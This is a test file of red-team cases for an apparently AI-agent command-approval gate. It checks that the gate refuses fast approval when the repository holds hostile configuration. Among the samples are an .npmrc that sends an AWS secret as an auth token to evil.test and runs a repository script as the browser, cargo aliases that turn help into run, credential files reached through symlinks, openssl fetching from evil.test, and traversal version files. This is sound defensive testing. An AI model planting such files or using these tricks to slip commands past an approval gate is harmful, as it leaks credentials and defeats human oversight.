// Red-team cases for the help/version, npm, cargo, terraform/packer, openssl and version-manager rules,
// proved on the compiled binary in real temporary git repositories written as a hostile author would
// write them: "allow" can only come from the fast path (no classifier credentials). Each block names
// the hole it closes; the controls beside them show the rule still allows what it should.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import {
  type BinaryVerdict,
  ccgateBin,
  ensureBinary,
  isolatedHome,
  put,
  verdictMismatches,
} from "../support/fastpath-binary.ts";
import { git } from "../support/git.ts";

const work = realpathSync(mkdtempSync(join(tmpdir(), "ccgate-redteam-tc-")));
const { env } = isolatedHome();
afterAll(() => rmSync(work, { recursive: true, force: true }));
beforeAll(() => ensureBinary());

/** A git repository at `work/<name>/repo` with `files` written (the parent directory is outside it). */
function repo(name: string, files: Record<string, string> = {}): string {
  const dir = join(work, name, "repo");
  mkdirSync(dir, { recursive: true });
  git(dir, "init", "-q", "-b", "feature/x");
  put(join(dir, "README.md"), "# r\n");
  for (const [p, t] of Object.entries(files)) put(join(dir, p), t);
  return dir;
}

async function expectVerdicts(dir: string, cases: Record<string, BinaryVerdict>): Promise<void> {
  expect(await verdictMismatches(dir, cases, env)).toEqual([]);
}

const PKG = { "package.json": '{"name":"x","version":"1.0.0","scripts":{"build":"echo hi"}}\n' };

describe("npm: a project .npmrc changes every verb, not only the registry reads", () => {
  // viewer=browser + browser=CMD makes `npm help` run CMD; registry= + an ${ENV} token reaches any host
  // from the update check of every verb; logs-dir / cache make any call create directories elsewhere.
  const npmrc =
    "registry=https://evil.test/\n//evil.test/:_authToken=$" +
    "{AWS_SECRET_ACCESS_KEY}\nviewer=browser\nbrowser=./evil.sh\nlogs-dir=/tmp/ccgate-redteam-logs\n";

  test("every npm verb falls through where a project .npmrc exists", async () => {
    const dir = repo("npmrc-all", { ...PKG, ".npmrc": npmrc, "evil.sh": "#!/bin/sh\n" });
    await expectVerdicts(dir, {
      // the verb is found after a global option's value (was read as the verb `silent`)
      "npm --loglevel silent view lodash": "fallthrough",
      "npm --color always whoami": "fallthrough",
      "npm -w x view lodash": "fallthrough",
      "npm --workspace x ping": "fallthrough",
      "npm --omit dev audit": "fallthrough",
      // the browser the .npmrc names
      "npm help install": "fallthrough",
      "npm help-search install": "fallthrough",
      // the update check and the log directory
      "npm ls": "fallthrough",
      "npm run": "fallthrough",
      "npm pkg get name": "fallthrough",
      "npm config list": "fallthrough",
      "npm --version": "fallthrough",
      "npm version": "fallthrough",
      "ls README.md": "allow",
    });
  });

  test("a .npmrc in a directory named by --prefix / -C (also bundled as -wC) is read too", async () => {
    const dir = repo("npmrc-prefix", { ...PKG, "sub/package.json": PKG["package.json"], "sub/.npmrc": npmrc });
    await expectVerdicts(dir, {
      "npm ls": "allow",
      "npm view lodash": "allow",
      "npm ls --prefix sub": "fallthrough",
      "npm ls --prefix=sub": "fallthrough",
      "npm help --prefix sub install": "fallthrough",
      "npm ls -wC sub": "fallthrough",
      "npm view -wC sub lodash": "fallthrough",
      "npm ls -gC sub": "fallthrough",
      "npm ls -lw x": "fallthrough",
      "npm help -Cw sub": "fallthrough",
      "npm ls -w=-C sub": "fallthrough",
      "npm ls --workspace=-C sub": "fallthrough",
      "npm ls -w=x": "allow",
      "cd sub && npm ls": "fallthrough",
    });
  });
});

describe("cargo: the one-letter verbs are aliases a repository config can redefine", () => {
  // `b`, `c`, `d`, `r`, `t` are not clap subcommands: cargo looks up `[alias]` first, so
  // `b = "run --"` turns `cargo b --help` into `cargo run -- --help` (builds and runs repository code).
  test("cargo b/c/d/r/t --help fall through where a repository cargo config exists", async () => {
    const dir = repo("cargo-alias", {
      "Cargo.toml": "[package]\nname = 'x'\nversion = '0.1.0'\n",
      "src/main.rs": "fn main() {}\n",
      ".cargo/config.toml":
        '[alias]\nb = "run --"\nc = "run --"\nd = "run --"\nr = "run --"\nt = "run --"\nclippy = "run --"\nfmt = "run --"\n',
    });
    await expectVerdicts(dir, {
      "cargo b --help": "fallthrough",
      "cargo c --help": "fallthrough",
      "cargo d -h": "fallthrough",
      "cargo r --help": "fallthrough",
      "cargo t --help": "fallthrough",
      "cd src && cargo b --help": "fallthrough",
      "nice cargo b --help": "fallthrough",
      "timeout 5 cargo t --help": "fallthrough",
      // clippy and fmt are external `cargo-*` programs, so an alias of the same name wins too
      "cargo clippy --help": "fallthrough",
      "cargo fmt --help": "fallthrough",
      "cargo clippy -h": "fallthrough",
      // clap prints the help of a builtin before any alias is read
      "cargo build --help": "allow",
      "cargo test --help": "allow",
    });
  });
});

describe("cargo locate-project --workspace parses the manifests like the resolving verbs", () => {
  // A TOML error prints the offending line: a Cargo.toml symlinked to a credentials file prints a key.
  test("a symlinked Cargo.toml makes locate-project unprovable", async () => {
    const dir = repo("cargo-locate", { "src/main.rs": "fn main() {}\n" });
    put(join(work, "cargo-locate", "credentials"), "[default]\naws_secret_access_key = AKIAEXAMPLE\n");
    symlinkSync(join(work, "cargo-locate", "credentials"), join(dir, "Cargo.toml"));
    await expectVerdicts(dir, {
      "cargo locate-project --workspace": "fallthrough",
      "cargo locate-project": "fallthrough",
      "cd src && cargo locate-project --workspace --message-format plain": "fallthrough",
      "cargo metadata --no-deps": "fallthrough",
      "cargo --version": "allow",
      "cargo build --help": "allow",
    });
  });
});

describe("terraform: the last -chdir wins", () => {
  // terraform keeps the last `-chdir=` of the leading options; the fmt walk must check that one.
  test("fmt walks the directory of the last -chdir", async () => {
    const dir = repo("tf-chdir", { "a/b/main.tf": 'variable "x" {}\n', "a/main.tf": 'variable "y" {}\n' });
    put(join(work, "tf-chdir", "secret.txt"), "aws_secret_access_key = AKIAEXAMPLE\n");
    symlinkSync(join(work, "tf-chdir", "secret.txt"), join(dir, "leak.tf"));
    const a = join(dir, "a");
    await expectVerdicts(a, {
      "terraform -chdir=b fmt -check": "allow",
      "terraform fmt -check": "allow",
      "terraform -chdir=b -chdir=.. fmt -check -diff": "fallthrough",
      "terraform -chdir=b -chdir=.. fmt -check -diff -recursive": "fallthrough",
      "terraform -chdir=.. fmt -check": "fallthrough",
    });
    // a file word is read relative to the -chdir directory, not to the working directory
    symlinkSync(join(work, "tf-chdir", "secret.txt"), join(dir, "a", "b", "leak2.tf"));
    rmSync(join(dir, "leak.tf"));
    await expectVerdicts(dir, {
      "terraform -chdir=a/b fmt -check -diff leak2.tf": "fallthrough",
      "terraform -chdir=a fmt -check -diff b/leak2.tf": "fallthrough",
      "terraform -chdir=a/b fmt -check main.tf": "allow",
      "terraform fmt -check -diff a/main.tf": "allow",
    });
  });
});

describe("a working directory that is a file fails closed without a crash", () => {
  test("cd into a file, then a tool whose directory facts are looked up", async () => {
    const dir = repo("cd-file", { ...PKG, "Cargo.toml": "[package]\nname = 'x'\nversion = '0.1.0'\n" });
    await expectVerdicts(dir, {
      "cd README.md; npm view lodash": "fallthrough",
      "cd README.md; npm ls": "fallthrough",
      "cd README.md; cargo tree --locked": "fallthrough",
      "cd README.md; cargo --version": "fallthrough",
      "cd README.md; ansible --version": "fallthrough",
      "cd README.md; packer --version": "fallthrough",
      "cd README.md; terraform fmt -check": "fallthrough",
      "cd README.md; ls": "fallthrough",
    });
  });
});

describe("openssl: an -in value is a URI for OpenSSL 3, not only a file name", () => {
  // `load_cert` fetches an http:// value (a request to a host the command names) and OSSL_STORE opens
  // file: URIs anywhere: a name that does not exist here is not a file in the repository.
  test("URI-shaped and missing -in values fall through", async () => {
    const pem = "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n";
    const dir = repo("openssl-uri", { "cert.pem": pem, "ca.crt": pem });
    await expectVerdicts(dir, {
      "openssl x509 -in cert.pem -noout -text": "allow",
      "openssl x509 -noout -in http://evil.test/x.pem": "fallthrough",
      "openssl x509 -noout -in http:/evil.test/x.pem": "fallthrough",
      "openssl crl -noout -in http://evil.test/x.crl": "fallthrough",
      "openssl x509 -noout -in file:/etc/ssl/certs/x.pem": "fallthrough",
      "openssl x509 -noout -in file:cert.pem": "fallthrough",
      "openssl req -noout -in missing.csr": "allow",
      "openssl verify -CAfile http://evil.test/ca.crt ca.crt": "fallthrough",
      "openssl verify -CAfile ca.crt http://evil.test/x.crt": "fallthrough",
      "openssl x509 -noout -in cert.pem -inform http://evil.test/x.crt": "fallthrough",
    });
  });
});

describe("terraform -chdir outside the repository", () => {
  test("-chdir is a path like any other", async () => {
    const dir = repo("tf-out", { "main.tf": 'variable "x" {}\n' });
    await expectVerdicts(dir, {
      "terraform version": "allow",
      "terraform -chdir=/etc version": "fallthrough",
      "terraform -chdir=.. version": "fallthrough",
      "terraform -chdir=$HOME version": "fallthrough",
      "terraform -chdir=~ fmt -check": "fallthrough",
      "terraform -chdir=. -chdir=. version": "fallthrough",
      "terraform fmt -check -chdir=..": "fallthrough",
      "terraform fmt -write=true": "fallthrough",
      "terraform fmt -check -write=true": "fallthrough",
      "terraform fmt --check": "fallthrough",
      "terraform fmt -check=true": "fallthrough",
      "terraform plan -help -out=x": "fallthrough",
      "terraform apply -auto-approve -help": "fallthrough",
      "terraform apply -- -help": "fallthrough",
    });
  });
});

describe("attacks that held (kept as regressions)", () => {
  test("help/version tools: nothing but the help or version flag", async () => {
    const dir = repo("held-help", { ".pre-commit-config.yaml": "repos: []\n" });
    put(join(work, "held-help", "x.yaml"), "repos: []\n");
    await expectVerdicts(dir, {
      "curl --help": "allow",
      "wget --version": "allow",
      "psql --help=commands": "allow",
      "ansible localhost --help": "allow",
      "pre-commit validate-config .pre-commit-config.yaml": "allow",
      "curl --help all": "fallthrough",
      "curl -h -o x": "fallthrough",
      "curl -K x --help": "fallthrough",
      "curl --version -o x": "fallthrough",
      "curl --help --output=x": "fallthrough",
      "wget -e robots=off --help": "fallthrough",
      "wget --help -O x": "fallthrough",
      "psql -c x --help": "fallthrough",
      "psql --help=options -f x": "fallthrough",
      "mysql --defaults-file=x --help": "fallthrough",
      "mysql -e x --help": "fallthrough",
      "sqlite3 db.sqlite -help": "fallthrough",
      "sqlite3 -init x.sql -version": "fallthrough",
      "duckdb -c x --version": "fallthrough",
      "ansible -m shell -a id localhost --help": "fallthrough",
      "ansible-playbook site.yml --help": "fallthrough",
      "ansible-galaxy install -r x.yml": "fallthrough",
      "ansible --version --help --x": "fallthrough",
      "pre-commit validate-config ../x.yaml": "fallthrough",
      "pre-commit validate-config --help x": "fallthrough",
      "pre-commit run --all-files": "fallthrough",
      "pre-commit": "fallthrough",
      "cdk --app x --version": "fallthrough",
      "cdk deploy": "fallthrough",
      "prometheus --config.file=x --help": "fallthrough",
      "sqlcmd query x --help": "fallthrough",
      "sqlcmd -Q x --version": "fallthrough",
    });
  });

  test("rustup: +toolchain words, odd toolchain-file spellings, wrappers", async () => {
    const dir = repo("held-rust", {
      "Cargo.toml": "[package]\nname = 'x'\nversion = '0.1.0'\n",
      "a/rust-toolchain.toml": '[toolchain]\nchannel = "stable"\n[toolchain.x]\n',
      "b/rust-toolchain.toml": 'toolchain.path = "./x"\n',
      "c/rust-toolchain.toml": 'toolchain = { path = "./x" }\n',
      "d/rust-toolchain.toml": '[toolchain]\ncomponents = [\n  "rustfmt",\n]\n',
      "e/rust-toolchain.toml": '[toolchain]\n"path" = "./x"\n',
      "f/rust-toolchain": "stable\npath = './x'\n",
      "g/rust-toolchain.toml": '[toolchain]\nchannel = """./x"""\n',
      "h/rust-toolchain.toml": '[toolchain]\nchannel = "stable" # ok\nprofile = "minimal"\n',
      "i/.tool-versions": "python ../../../../tmp/x\n",
      "j/.tool-versions": "nodejs 20.1.0\nruby ref:v3\n",
      "k/.tool-versions": "nodejs 20.1.0 # pinned\npython 3.12.1 system\n",
    });
    await expectVerdicts(dir, {
      "cargo --version": "allow",
      "cargo +nightly --version": "fallthrough",
      "rustc +./x --version": "fallthrough",
      "cargo --version --config build.rustc=x": "fallthrough",
      "cd a && cargo --version": "fallthrough",
      "cd b && cargo --version": "fallthrough",
      "cd c && rustc --version": "fallthrough",
      "cd d && rustup --version": "fallthrough",
      "cd e && cargo --version": "fallthrough",
      "cd f && cargo --version": "fallthrough",
      "cd g && cargo --version": "fallthrough",
      "cd h && cargo --version": "allow",
      "cd i && ls": "fallthrough",
      "cd j && cat x": "fallthrough",
      "cd k && ls": "allow",
      "cd a; nice cargo --version": "fallthrough",
      "cd a && timeout 5 rustfmt --version": "fallthrough",
      "cd a && bash -c 'cargo --version'": "fallthrough",
      "cd a && cargo-clippy --version": "fallthrough",
    });
  });

  test("glued option values that are symlinks out of the repository", async () => {
    const dir = repo("held-glued", { "Cargo.toml": "[package]\nname = 'x'\nversion = '0.1.0'\n" });
    const out = join(work, "held-glued", "out");
    put(join(out, "Cargo.toml"), "[package]\nname = 'y'\nversion = '0.1.0'\n");
    put(join(out, "main.tf"), 'variable "x" {}\n');
    symlinkSync(out, join(dir, "link"));
    await expectVerdicts(dir, {
      "cargo locate-project": "allow",
      "terraform -chdir=link version": "fallthrough",
      "terraform -chdir=link fmt -check": "fallthrough",
      "cargo locate-project --manifest-path=link/Cargo.toml": "fallthrough",
      "cargo locate-project --manifest-path link/Cargo.toml": "fallthrough",
      "cargo tree --locked --manifest-path=link/Cargo.toml": "fallthrough",
      "terraform fmt -check link": "fallthrough",
      "packer fmt -check link": "fallthrough",
    });
  });

  test("npm .npmrc through wrappers and subshells", async () => {
    const dir = repo("held-npm", { ...PKG, ".npmrc": "registry=https://evil.test/\n" });
    await expectVerdicts(dir, {
      "timeout 5 npm ls": "fallthrough",
      "nice npm --version": "fallthrough",
      "bash -c 'npm ls'": "fallthrough",
      "(npm view lodash)": "fallthrough",
      "true && npm whoami": "fallthrough",
    });
  });

  test("packer plugins and ansible.cfg in the directory a command cd's into", async () => {
    const dir = repo("held-packer", { "sub/packer-plugin-x": "#!/bin/sh\n", "sub/ansible.cfg": "[defaults]\n" });
    await expectVerdicts(dir, {
      "packer --version": "allow",
      "ansible --version": "allow",
      "cd sub && packer --version": "fallthrough",
      "cd sub; packer version": "fallthrough",
      "cd sub && ansible --version": "fallthrough",
      "cd sub && nice ansible-playbook --help": "fallthrough",
    });
  });
});

describe("cd through a symlink: asdf walks the logical $PWD, rustup the physical one", () => {
  // `cd a/link` with a/link -> ../b leaves PWD=/repo/a/link: asdf reads /repo/a/.tool-versions,
  // which is on neither /repo/b's ancestors nor the starting directory's.
  test("the directories of the logical path are checked too", async () => {
    const dir = repo("cd-logical", {
      "a/.tool-versions": "python ../../../../../../proc/self/cwd\n",
      "a/rust-toolchain.toml": '[toolchain]\npath = "./x"\n',
      "b/x": "x\n",
    });
    symlinkSync("../b", join(dir, "a", "link"));
    // after `cd a/link`, bash's `cd ..` enters /repo/a (the link's parent), not /repo (b's parent)
    const leak = repo("cd-logical-leak", {
      "t/notes.txt": "ok\n",
      "t/s/notes.txt": "ok\n",
      "t/s/b/notes.txt": "ok\n",
      "t/s/b/x": "x\n",
    });
    mkdirSync(join(leak, "t", "s", "a"));
    symlinkSync("../b", join(leak, "t", "s", "a", "link"));
    put(join(work, "cd-logical-leak", "secret.txt"), "aws_secret_access_key = AKIAEXAMPLE\n");
    symlinkSync(join(work, "cd-logical-leak", "secret.txt"), join(leak, "t", "s", "a", "notes.txt"));
    await expectVerdicts(join(leak, "t", "s"), {
      "cd a/link && cat x": "allow",
      "cd b && cd .. && cat notes.txt": "allow",
      "cd a/link && cd .. && cat notes.txt": "fallthrough",
      "cd a/link; cd ..; head -1 notes.txt": "fallthrough",
    });
    await expectVerdicts(dir, {
      "cd b && ls": "allow",
      "cd a/link && ls": "fallthrough",
      "cd a/link; cat x": "fallthrough",
      "cd a/link && cd .. && ls": "fallthrough",
    });
  });
});

describe("tfenv: .terraform-version names the directory whose terraform runs", () => {
  // tfenv execs $TFENV_CONFIG_DIR/versions/<text>/terraform; /proc/self/cwd is the repository.
  test("a traversal version here or above falls through, release names stay provable", async () => {
    const dir = repo("tfenv", {
      "a/.terraform-version": "../../../../../../../../proc/self/cwd/bin\n",
      "bin/terraform": "#!/bin/sh\n",
      "b/.terraform-version": "1.6.2\n",
      "c/.terraform-version": "latest:^1.5\n",
      "d/.terraform-version": "1.6.2\n../../x\n",
      "e/.terraform-version": "min-required\n",
    });
    mkdirSync(join(dir, "f"));
    symlinkSync("/dev/zero", join(dir, "f", ".terraform-version"));
    await expectVerdicts(dir, {
      "terraform version": "allow",
      "cd a && terraform version": "fallthrough",
      "cd a && terraform -help": "fallthrough",
      "cd a && nice terraform fmt -check": "fallthrough",
      "cd a && ls": "allow",
      "cd b && terraform version": "allow",
      "cd c && terraform --version": "allow",
      "cd d && terraform version": "fallthrough",
      "cd e && terraform version": "allow",
      "cd f && terraform version": "fallthrough",
    });
  });
});

describe("*env version files name the directory whose program runs", () => {
  // pyenv/rbenv/nodenv/goenv run versions/<word>/bin/<program>; the older ones take a traversal word.
  test("a traversal word in .python-version / .go-version / .node-version falls through", async () => {
    const bad = "../../../../../../../../proc/self/cwd\n";
    const dir = repo("envs", {
      "py/.python-version": bad,
      "go/.go-version": bad,
      "node/.node-version": bad,
      "rb/.ruby-version": "/proc/self/cwd\n",
      "pk/.packer-version": bad,
      "ok/.python-version": "3.12.1\nsystem\n",
      "ok/.go-version": "1.22.3\n",
      "ok/.node-version": "20.11.1\n",
    });
    await expectVerdicts(dir, {
      "go version": "allow",
      "cd py && pip list": "fallthrough",
      "cd py && ansible --version": "fallthrough",
      "cd py && pre-commit --version": "fallthrough",
      "cd go && go version": "fallthrough",
      "cd go && gofmt -l .": "fallthrough",
      "cd node && npm --version": "fallthrough",
      "cd node && cdk --version": "fallthrough",
      "cd pk && packer --version": "fallthrough",
      "packer --version": "allow",
      "cd py && ls": "allow",
      "cd go && pip list": "allow",
      "cd ok && go version": "allow",
      "cd ok && pip list": "allow",
      "cd ok && npm --version": "allow",
    });
  });
});

describe("a refusal note never quotes the file it refused", () => {
  // The notes go to the classifier's prompt (shell_analysis) and to `explain`: a `.tool-versions` or
  // rust-toolchain symlinked to a token file must not have a word of it copied there.
  test("explain shows no word of a symlinked version file", async () => {
    const dir = repo("note-leak", { "a/x": "x\n", "b/x": "x\n" });
    put(join(work, "note-leak", "token"), "github ghp_MARKERzz9:secret\n");
    put(join(work, "note-leak", "token.toml"), "[toolchain]\nMARKERkeyzz9 = 1\n");
    symlinkSync(join(work, "note-leak", "token"), join(dir, "a", ".tool-versions"));
    symlinkSync(join(work, "note-leak", "token.toml"), join(dir, "b", "rust-toolchain.toml"));
    for (const [sub, command] of [
      ["a", "ls x"],
      ["b", "cargo --version"],
    ] as const) {
      const p = Bun.spawn([ccgateBin, "claude", "explain", "--json", "--command", command, "--cwd", join(dir, sub)], {
        cwd: join(dir, sub),
        env,
        stdout: "pipe",
        stderr: "pipe",
      });
      const out = (await new Response(p.stdout).text()) + (await new Response(p.stderr).text());
      await p.exited;
      expect(out).toContain("may pick the program that runs");
      expect(out).not.toContain("MARKER");
    }
  });
});

describe("version-manager files that are not plain small files", () => {
  // /proc files report size 0 and may be endless (pagemap): the read is bounded, the answer a refusal.
  test("a .tool-versions / rust-toolchain symlinked to /proc or a device falls through promptly", async () => {
    const dir = repo("proc-link");
    symlinkSync("/proc/self/pagemap", join(dir, ".tool-versions"));
    const sub = join(dir, "sub");
    mkdirSync(sub);
    symlinkSync("/dev/zero", join(sub, "rust-toolchain"));
    mkdirSync(join(dir, "d", "rust-toolchain.toml"), { recursive: true });
    mkdirSync(join(dir, "loop"));
    symlinkSync("rust-toolchain", join(dir, "loop", "rust-toolchain"));
    await expectVerdicts(dir, {
      "ls README.md": "fallthrough",
      "cargo --version": "fallthrough",
    });
    rmSync(join(dir, ".tool-versions"));
    await expectVerdicts(dir, {
      "ls README.md": "allow",
      "cargo --version": "allow",
      "cd sub && cargo --version": "fallthrough",
      "cd sub && ls": "allow",
      "cd d && rustc --version": "fallthrough",
      "cd loop && rustc --version": "fallthrough",
      "cd loop; rustup --version": "fallthrough",
    });
  }, 30000);
});
